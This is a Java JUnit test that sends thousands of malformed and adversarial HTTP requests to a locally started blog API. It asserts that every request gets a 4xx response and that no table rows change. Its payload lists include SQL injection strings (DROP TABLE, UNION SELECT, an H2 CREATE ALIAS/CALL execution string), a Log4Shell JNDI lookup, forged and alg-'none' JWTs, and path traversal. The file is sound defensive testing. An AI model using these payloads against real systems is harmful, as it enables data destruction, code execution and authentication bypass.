package dev.stackbench.server;

import dev.stackbench.model.Endpoint;
import dev.stackbench.model.EndpointKind;
import dev.stackbench.model.Field;
import dev.stackbench.model.FieldType;
import dev.stackbench.model.Project;
import dev.stackbench.model.template.Templates;
import org.junit.jupiter.api.Test;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Function;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * At least 5,000 generated malformed or adversarial requests (broken JSON, wrong types, huge numbers, deep
 * nesting, SQL metacharacters in every parameter, forged tokens, odd routes) with rate limits lifted: no 5xx,
 * the expected 4xx per category, and every table's rows exactly as before.
 */
class HostileInputTest {
    private static final List<String> SQL = List.of("' OR '1'='1", "1; DROP TABLE posts; --", "\" OR 1=1 --",
            "') UNION SELECT * FROM users --", "1' AND SLEEP(5)--", "CREATE ALIAS X AS 'String x(String s){return s;}'",
            "\\'; CALL X('id'); --", "${jndi:ldap://evil/x}", "%' --", "1/**/OR/**/1=1");
    private static final int REQUESTS = 5_000;

    /** One generated request and the statuses its category allows. */
    record Attack(String category, String method, String path, String body, String contentType, String token,
                  Set<Integer> expected) {
    }

    @Test
    void five_thousand_hostile_requests_get_4xx_and_change_no_row() throws Exception {
        Project blog = Templates.load("blog");
        try (LiveServer server = LiveServer.start(blog, LiveServerOptions.anyPort().withRateLimitsOff(true))) {
            Http http = new Http(server.url());
            String admin = http.post("/api/auth/login", "{\"email\":\"admin@example.com\",\"password\":\"admin-password\"}")
                    .json().at("/data/accessToken").asText();
            Map<String, String> before = server.contentFingerprint();
            List<Attack> attacks = generate(blog, admin, new Random(42));
            Map<String, Set<Integer>> seen = new ConcurrentHashMap<>();
            List<String> wrong = run(http, attacks, seen);
            assertThat(attacks).hasSizeGreaterThanOrEqualTo(REQUESTS);
            assertThat(wrong).isEmpty();
            assertThat(seen.values().stream().flatMap(Set::stream)).allMatch(s -> s < 500);
            assertThat(seen.keySet()).contains("broken-json", "wrong-type", "huge-number", "deep-nesting",
                    "sql-query", "sql-path", "sql-body", "forged-token", "routing");
            assertThat(server.contentFingerprint()).isEqualTo(before);
        }
    }

    private static List<String> run(Http http, List<Attack> attacks, Map<String, Set<Integer>> seen)
            throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<String>> results = new ArrayList<>();
            for (Attack a : attacks) {
                results.add(pool.submit(() -> {
                    Http client = a.token() == null ? http : http.bearer(a.token());
                    Http.Reply r = client.send(a.method(), a.path(), a.body(), a.contentType());
                    seen.computeIfAbsent(a.category(), k -> ConcurrentHashMap.newKeySet()).add(r.status());
                    return a.expected().contains(r.status()) ? null
                            : a.category() + " " + a.method() + " " + a.path() + " -> " + r.status() + " " + r.body();
                }));
            }
            List<String> wrong = new ArrayList<>();
            for (Future<String> f : results) {
                String problem = f.get();
                if (problem != null && wrong.size() < 20) {
                    wrong.add(problem);
                }
            }
            return wrong;
        } finally {
            pool.shutdownNow();
        }
    }

    private static List<Attack> generate(Project project, String admin, Random random) {
        List<Endpoint> writes = project.endpoints().stream().filter(e -> e.kind() == EndpointKind.CREATE
                || e.kind() == EndpointKind.UPDATE || e.kind() == EndpointKind.PATCH).toList();
        List<Endpoint> lists = project.endpoints().stream().filter(e -> e.kind() == EndpointKind.LIST).toList();
        List<Function<Integer, Attack>> makers = List.of(
                i -> brokenJson(pick(writes, i), admin, random),
                i -> wrongType(project, pick(writes, i), admin, random),
                i -> hugeNumber(project, pick(writes, i), admin, random),
                i -> deepNesting(pick(writes, i), admin, random),
                i -> sqlQuery(pick(lists, i), admin, random),
                i -> sqlPath(project, random),
                i -> sqlBody(random, admin),
                i -> forgedToken(admin, random),
                i -> routing(random));
        List<Attack> attacks = new ArrayList<>();
        for (int i = 0; attacks.size() < REQUESTS; i++) {
            attacks.add(makers.get(i % makers.size()).apply(i / makers.size()));
        }
        for (String s : SQL) {
            attacks.add(new Attack("sql-login", "POST", "/api/auth/login", "{\"email\":" + json(s)
                    + ",\"password\":" + json(s) + "}", "application/json", null, Set.of(401)));
        }
        return attacks;
    }

    private static <T> T pick(List<T> list, int i) {
        return list.get(i % list.size());
    }

    private static String path(Endpoint ep, Random random) {
        return ep.path().replace("{id}", Integer.toString(1 + random.nextInt(12)));
    }

    private static Attack brokenJson(Endpoint ep, String token, Random random) {
        List<String> bodies = List.of("{", "{\"title\":", "{\"title\":\"x\",}", "nul", "{'single':'quotes'}",
                "{\"a\":1}{\"b\":2}", "\u0000\u0001\u0002", "{\"title\":\"unterminated}", "{]", "", "   ",
                "{\"title\":NaN}", "{\"x\":01}", new String(randomBytes(random), StandardCharsets.ISO_8859_1));
        return new Attack("broken-json", ep.method().name(), path(ep, random), bodies.get(random.nextInt(bodies.size())),
                "application/json", token, Set.of(400, 404));
    }

    private static byte[] randomBytes(Random random) {
        byte[] bytes = new byte[1 + random.nextInt(64)];
        random.nextBytes(bytes);
        bytes[0] = '{';
        return bytes;
    }

    private static Attack wrongType(Project project, Endpoint ep, String token, Random random) {
        List<Field> fields = project.entity(ep.entityId()).orElseThrow().fields().stream()
                .filter(f -> !f.sensitive() && f.type() != FieldType.JSON).toList();
        Field f = pick(fields, random.nextInt(fields.size()));
        List<String> values = f.type().isTextual() || f.type() == FieldType.ENUM
                ? List.of("42", "true", "{}", "[\"a\"]", "1.5") : List.of("\"text\"", "{}", "[1]", "\"1\"");
        String body = "{\"" + dev.stackbench.model.Naming.camel(f.name()) + "\":"
                + values.get(random.nextInt(values.size())) + "}";
        return new Attack("wrong-type", ep.method().name(), path(ep, random), body, "application/json", token,
                Set.of(400, 404));
    }

    private static Attack hugeNumber(Project project, Endpoint ep, String token, Random random) {
        List<String> numbers = List.of("1e400", "-1e309", "99999999999999999999999999", "1e999999999",
                "123456789012345678901234567890.123456789", "-0.0000000000000000000001", "9223372036854775808");
        String n = numbers.get(random.nextInt(numbers.size()));
        List<String> props = new ArrayList<>(List.of("title", "authorId", "postId", "tagIds"));
        String prop = props.get(random.nextInt(props.size()));
        String body = prop.equals("tagIds") ? "{\"tagIds\":[" + n + "]}" : "{\"" + prop + "\":" + n + "}";
        return new Attack("huge-number", ep.method().name(), path(ep, random), body, "application/json", token,
                Set.of(400, 404));
    }

    private static Attack deepNesting(Endpoint ep, String token, Random random) {
        int depth = 65 + random.nextInt(5000);
        String body = "{\"title\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
        return new Attack("deep-nesting", ep.method().name(), path(ep, random), body, "application/json", token,
                Set.of(400, 404));
    }

    private static Attack sqlQuery(Endpoint list, String token, Random random) {
        String s = enc(SQL.get(random.nextInt(SQL.size())));
        String[] params = {"status=" + s, "authorId=" + s, "sort=" + s, "page=" + s, "limit=" + s, s + "=1",
                "postId=" + s};
        String query = params[random.nextInt(params.length)];
        boolean filterAsText = query.startsWith("status=") && list.filterable().contains("status");
        return new Attack("sql-query", "GET", list.path().replace("{postId}", "1") + "?" + query, null, null, token,
                filterAsText ? Set.of(200) : Set.of(400));
    }

    private static Attack sqlPath(Project project, Random random) {
        List<Endpoint> items = project.endpoints().stream().filter(e -> e.path().endsWith("{id}")).toList();
        Endpoint ep = items.get(random.nextInt(items.size()));
        String id = enc(SQL.get(random.nextInt(SQL.size())));
        Set<Integer> expected = ep.authRequired() ? Set.of(400, 401) : Set.of(400);
        return new Attack("sql-path", ep.method().name(), ep.path().replace("{id}", id),
                ep.method().name().equals("GET") || ep.method().name().equals("DELETE") ? null : "{}",
                "application/json", null, expected);
    }

    /** SQL text in every property of a tag, with a slug that breaks its pattern so nothing is written. */
    private static Attack sqlBody(Random random, String token) {
        String s = SQL.get(random.nextInt(SQL.size()));
        String body = "{\"name\":" + json(s) + ",\"slug\":" + json(s) + "}";
        boolean create = random.nextBoolean();
        return new Attack("sql-body", create ? "POST" : "PUT", create ? "/api/tags" : "/api/tags/1", body,
                "application/json", token, Set.of(422));
    }

    private static Attack forgedToken(String real, Random random) {
        String[] parts = real.split("\\.");
        List<String> tokens = List.of(
                parts[0] + "." + parts[1] + ".AAAA" + parts[2].substring(4),
                "eyJhbGciOiJub25lIn0." + parts[1] + ".",
                parts[0] + ".eyJzdWIiOiIxIiwicm9sZXMiOlsiYWRtaW4iXX0." + parts[2],
                "not.a.token", "a".repeat(1 + random.nextInt(500)), "' OR '1'='1");
        String token = tokens.get(random.nextInt(tokens.size()));
        return random.nextBoolean()
                ? new Attack("forged-token", "GET", "/api/auth/me", null, null, token, Set.of(401))
                : new Attack("forged-token", "POST", "/api/tags", "{\"name\":\"x\"}", "application/json", token,
                Set.of(401));
    }

    private static Attack routing(Random random) {
        List<String[]> routes = List.of(new String[] {"GET", "/api/posts/1/2/3"}, new String[] {"DELETE", "/api/posts"},
                new String[] {"PATCH", "/api/tags"}, new String[] {"GET", "/api/" + "x".repeat(2000)},
                new String[] {"GET", "/api/posts/%2e%2e/users"}, new String[] {"TRACE", "/api/posts"},
                new String[] {"POST", "/api/stats"});
        String[] r = routes.get(random.nextInt(routes.size()));
        return new Attack("routing", r[0], r[1], null, null, null, Set.of(400, 404, 405));
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    private static String json(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
